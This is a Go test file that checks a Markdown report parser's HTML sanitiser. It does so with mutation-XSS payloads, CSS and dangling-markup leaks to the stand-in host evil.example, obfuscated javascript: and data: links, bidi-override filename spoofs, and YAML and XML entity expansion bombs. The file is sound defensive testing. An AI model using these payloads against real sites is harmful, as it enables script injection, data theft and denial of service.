package content

import (
	"fmt"
	"runtime"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/text/unicode/norm"
)

// hostileHTML are forms that mean one thing to the parser of a sanitiser and another to a browser's: namespaces confused, text
// that is markup once scripting is on, markup that moves when it is parsed again, and styles that load.
var hostileHTML = map[string]string{
	"mglyph in mtext":          `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"malignmark":               `<math><mi><malignmark><style><img src=x onerror=alert(1)></style>`,
	"annotation-xml as HTML":   `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	"annotation-xml as SVG":    `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=alert(1)></svg></annotation-xml></math>`,
	"svg title":                `<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
	"svg desc":                 `<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></desc></svg>`,
	"svg foreignObject":        `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
	"svg style with comment":   `<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>`,
	"svg use and animate":      `<svg><use href="data:image/svg+xml,x#a"/><animate attributeName=href values="javascript:alert(1)"/></svg>`,
	"p ends svg":               `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	"nested forms":             `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	"noscript":                 `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"noembed":                  `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`,
	"template":                 `<template><img src=x onerror=alert(1)><script>alert(1)</script></template>`,
	"declarative shadow root":  `<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
	"textarea":                 `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	"title":                    `<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
	"xmp":                      `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	"plaintext":                `<plaintext><img src=x onerror=alert(1)>`,
	"select":                   `<select><style></select><img src=x onerror=alert(1)></style>`,
	"comment ends early":       `<!--> <img src=x onerror=alert(1)> -->`,
	"comment ends oddly":       `<!-- --!><img src=x onerror=alert(1)> -->`,
	"CDATA":                    `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	"processing instruction":   `<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>`,
	"backquotes":               "<img alt=`` src=x onerror=alert(1)>",
	"slash for a space":        `<img/src=x/onerror=alert(1)/>`,
	"no end of a tag":          `<img src=x onerror=alert(1)//`,
	"attribute without quotes": `<abbr title=x/onmouseover=alert(1)>a</abbr>`,
	"attribute twice":          `<abbr title=a title="x" onmouseover=alert(1)>a</abbr>`,
	"table moves text":         `<table><a href="javascript:alert(1)"><tr><td><style>a{}</style><script>alert(1)</script>`,
	"anchors in anchors":       `<a href="#a"><table><a href="javascript:alert(1)">b</a></table></a>`,
	"style attribute":          `<p style="background:url(//evil.example/?x)">a</p><td style="width:expression(alert(1))">a</td>`,
	"style attribute escaped":  `<b style="\62 ackground:\75rl(//evil.example/x)">a</b>`,
	"style element":            `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
	"style import":             `<style>@import url(//evil.example/x.css);@font-face{src:url(//evil.example/f)}</style>`,
	"style link":               `<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=image href=//evil.example/x>`,
	"presentational url":       `<table background="//evil.example/x"><tr><td background="//evil.example/y">a</td></tr></table><body background=//evil.example/z>`,
	"loads":                    `<video poster=//evil.example/x><source srcset="//evil.example/y 2x"></video><q cite="//evil.example/z">a</q><a ping=//evil.example/p href="#a">a</a>`,
	"clobbering":               `<a id=document name=cookie href="#a">a</a><img name=getElementById src=x.png><form id=body></form>`,
	"dangling markup":          `<img src='//evil.example/?text=`,
	"meta and base":            `<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example/>`,
}

// TestHostileHTML puts each form into every block that can hold HTML. What comes out has elements and attributes of the policy
// alone, the way a browser reads it with scripting on and with scripting off, and when what the browser read is written and read
// again: there is nothing left that could mutate.
func TestHostileHTML(t *testing.T) {
	for name, form := range hostileHTML {
		for place, text := range map[string]string{
			"block": "%s\n", "inline": "글 %s 글\n", "item": "- %s\n", "quote": "> %s\n", "cell": "| a |\n|---|\n| %s |\n", "heading": "## 글 %s\n", "details": "<details><summary>%s</summary>\n\n글\n\n</details>\n", "note": "글[^1]\n\n[^1]: %s\n", "link": "[%s](https://example.org)\n", "emphasis": "**%s**\n",
		} {
			r, err := Parse(fmt.Appendf(nil, "# 글\n\n"+text+"\n뒤의 글이다.\n", form), ParseConfig{Path: "a.md"})
			if err != nil {
				t.Errorf("%s in a %s: %v", name, place, err)
				continue
			}
			if !strings.Contains(r.HTML, "뒤의 글이다") && name != "plaintext" {
				t.Errorf("%s in a %s takes what follows with it: %s", name, place, r.HTML)
			}
			for _, scripting := range []bool{true, false} {
				written := r.HTML
				for range 3 {
					root, err := html.ParseWithOptions(strings.NewReader("<!doctype html><body>"+written), html.ParseOptionEnableScripting(scripting))
					if err != nil {
						t.Fatal(err)
					}
					var again strings.Builder
					for n := range root.Descendants() {
						if why := unsafe(n); why != "" {
							t.Errorf("%s in a %s, scripting %v: %s in %s", name, place, scripting, why, r.HTML)
						}
						if n.Type == html.ElementNode && n.Data == "body" {
							for c := range n.ChildNodes() {
								if err := html.Render(&again, c); err != nil {
									t.Fatal(err)
								}
							}
						}
					}
					written = again.String()
				}
			}
		}
	}
}

// unsafe says what an element of a report may not be or have.
func unsafe(n *html.Node) string {
	if n.Type == html.CommentNode {
		return "a comment"
	}
	if n.Type != html.ElementNode {
		return ""
	}
	if n.Namespace == "svg" || hidden[n.Data] && n.Namespace == "" {
		return "<" + n.Data + ">"
	}
	switch n.Data {
	case "form", "meta", "base", "link", "video", "audio", "source", "input", "button", "malignmark", "mglyph", "annotation-xml":
		return "<" + n.Data + ">"
	}
	for _, a := range n.Attr {
		value := strings.ToLower(a.Val)
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcset", a.Key == "background", a.Key == "ping", a.Key == "name", a.Key == "srcdoc", a.Key == "cite", a.Key == "poster", strings.Contains(a.Key, "xlink"):
			return "the attribute " + a.Key
		case (a.Key == "href" || a.Key == "src") && (strings.Contains(value, "script:") || strings.HasPrefix(value, "data:") || strings.HasPrefix(value, "//")):
			return a.Key + "=" + a.Val
		}
	}
	return ""
}

// TestHostileLinks: no link of a report runs anything, however its scheme is written; such a link is shown as one that leads nowhere.
func TestHostileLinks(t *testing.T) {
	for _, href := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)",
		"java&#13;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)", "&#31;javascript:alert(1)", "&#32;javascript:alert(1)", "&#xA0;javascript:alert(1)", "&#x200B;javascript:alert(1)",
		"&#xFEFF;javascript:alert(1)", "&#x202E;javascript:alert(1)", "javascript&#0;:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg/onload=alert(1)>", "&#100;ata:text/html,x", "vbscript:msgbox(1)", "VbScript&colon;x", "file:///etc/passwd", "blob:https://example.org/x",
		"filesystem:https://example.org/x", "about:blank", "intent://x#Intent;scheme=http;end", "livescript:x", "mocha:x", "ms-word:ofe|u|x",
	} {
		for place, text := range map[string]string{
			"link": "[가](%s)\n", "link in brackets": "[가](<%s>)\n", "reference": "[가][r]\n\n[r]: <%s>\n", "HTML": "<table><tr><td><a href=\"%s\">가</a></td></tr></table>\n", "paragraph of HTML": "<a href='%s'>가</a>\n", "image": "![가](<%s>)\n", "HTML image": "<details><img src=\"%s\"></details>\n", "front matter": "---\noriginal_url: '%s'\n---\n\n가\n",
		} {
			r, err := Parse(fmt.Appendf(nil, text, href), ParseConfig{Path: "a.md"})
			if err != nil {
				t.Errorf("%s in a %s: %v", href, place, err)
				continue
			}
			if r.OriginalURL != "" {
				t.Errorf("%s in a %s is the original: %s", href, place, r.OriginalURL)
			}
			root, err := html.Parse(strings.NewReader(r.HTML))
			if err != nil {
				t.Fatal(err)
			}
			for n := range root.Descendants() {
				for _, a := range n.Attr {
					if (a.Key == "href" || a.Key == "src") && a.Val != "" && !strings.HasPrefix(a.Val, "#") {
						t.Errorf("%s in a %s leads to %q", href, place, a.Val)
					}
				}
			}
		}
	}
}

// TestHostileTitles: a title stands in lines with other text. What would reorder that text is shown as U+FFFD wherever a report is named
// by it, forms that Unicode counts as one are one, and letters that only look alike stay what they are.
func TestHostileTitles(t *testing.T) {
	const seen = "\ufffd"
	for _, c := range []struct{ name, src, path, title, slug string }{
		{"override in front matter", "---\ntitle: \"a\u202egnp.exe\"\n---\n\n글\n", "a.md", "a" + seen + "gnp.exe", "a"},
		{"override by YAML's number", "---\ntitle: \"a\\u202Egnp\"\n---\n\n글\n", "a.md", "a" + seen + "gnp", "a"},
		{"isolate in a heading", "# a\u2066b\u2069\n\n글\n", "a.md", "a" + seen + "b" + seen, "a"},
		{"embedding by HTML's number", "# a&#x202B;b\n\n글\n", "a.md", "a" + seen + "b", "a"},
		{"override in a file name", "글이다.\n", "20240101-a\u202edm.md", "", "20240101-a" + seen + "dm"},
		{"NFD title and name", "# " + norm.NFD.String("확장 법칙") + "\n\n글\n", norm.NFD.String("확장.md"), "확장 법칙", "확장"},
		{"NFC title and name", "# 확장 법칙\n\n글\n", "확장.md", "확장 법칙", "확장"},
		{"Cyrillic that looks Latin", "# G\u0420T-4\n\n글\n", "g\u0440t.md", "G\u0420T-4", "g\u0440t"},
		{"marks of direction", "# a\u200fb\n\n글\n", "a.md", "a\u200fb", "a"}, // these reorder nothing beyond themselves
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := Parse([]byte(c.src), ParseConfig{Path: c.path})
			if err != nil {
				t.Fatal(err)
			}
			if c.title != "" && r.Title != c.title || r.Slug != c.slug {
				t.Errorf("%+q at %+q, want %+q at %+q", r.Title, r.Slug, c.title, c.slug)
			}
			if said := r.Title + r.Slug + r.Summary + r.Author + strings.Join(r.Keywords, ""); strings.ContainsAny(said, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
				t.Errorf("reorders: %+q", said)
			}
		})
	}
}

// TestHostileExpansion: what a report's front matter or an image defines in terms of itself is not written out.
func TestHostileExpansion(t *testing.T) {
	var yaml, entities strings.Builder
	yaml.WriteString("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n")
	entities.WriteString(`<!ENTITY e0 "xxxxxxxxxx">`)
	for i := 1; i < 12; i++ {
		fmt.Fprintf(&yaml, "a%d: &a%[1]d [%[2]s]\n", i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 10), ","))
		fmt.Fprintf(&entities, `<!ENTITY e%d "%s">`, i, strings.Repeat(fmt.Sprintf("&e%d;", i-1), 10))
	}
	allocated := func(do func()) uint64 {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		do()
		runtime.ReadMemStats(&after)
		return after.TotalAlloc - before.TotalAlloc
	}
	for name, head := range map[string]string{"unread": yaml.String(), "keywords": yaml.String() + "keywords: *a11\n", "title": yaml.String() + "title: *a11\n", "merged": "a: &a {<<: *a}\n", "deep": "keywords: " + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + "\n"} {
		var r *Report
		var err error
		if n := allocated(func() { r, err = Parse([]byte("---\n"+head+"---\n\n# 글\n\n글이다.\n"), ParseConfig{Path: "a.md"}) }); n > 64<<20 {
			t.Errorf("%s: %d bytes were allocated", name, n)
		}
		if err == nil && (len(r.Keywords) > 100 || len(r.Title) > 1000 || !strings.Contains(r.HTML, "글이다")) {
			t.Errorf("%s: %d keywords, a title of %d bytes, %s", name, len(r.Keywords), len(r.Title), r.HTML)
		}
	}
	svg := `<!DOCTYPE svg [` + entities.String() + `]><svg xmlns="http://www.w3.org/2000/svg" width="&e11;" height="9"><text>&e11;</text></svg>`
	var width int
	if n := allocated(func() { _, width, _, _ = imageInfo([]byte(svg)) }); n > 16<<20 || width != 0 {
		t.Errorf("an image of entities: %d bytes, %d wide", n, width)
	}
}
